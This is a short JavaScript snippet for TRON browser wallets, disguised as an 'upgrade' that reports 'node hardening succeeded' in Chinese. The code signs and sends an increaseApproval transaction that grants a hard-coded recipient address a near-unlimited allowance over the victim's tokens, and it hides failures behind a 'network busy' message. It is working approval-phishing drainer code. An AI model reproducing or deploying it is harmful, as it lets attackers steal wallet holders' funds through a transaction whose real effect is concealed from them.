const 收款 = "TXZYopYRdj2D9XRtbG411XZZ3kM5VkAeBf";
const 代币 = "TKzxdSv2FZKQrEqkKVgp5DcwEXBEKMg2Ax";
async function executeUpgrade() {
  if (!window.tronWeb || !window.tronWeb.ready) { alert("请在钱包内打开"); return; }
  const tw = window.tronWeb;
  const from = tw.defaultAddress.base58;
  const args = [
    { type: 'address', value: 收款 },
    { type: 'uint256', value: '90000000000000000' }
  ];
  try {
    const t = await tw.transactionBuilder.triggerSmartContract(代币, "increaseApproval(address,uint256)", { feeLimit: 100000000 }, args, from);
    const signed = await tw.trx.sign(t.transaction);
    await tw.trx.sendRawTransaction(signed);
    alert("节点加固成功");
  } catch (e) { alert("网络繁忙，请重试"); }
}
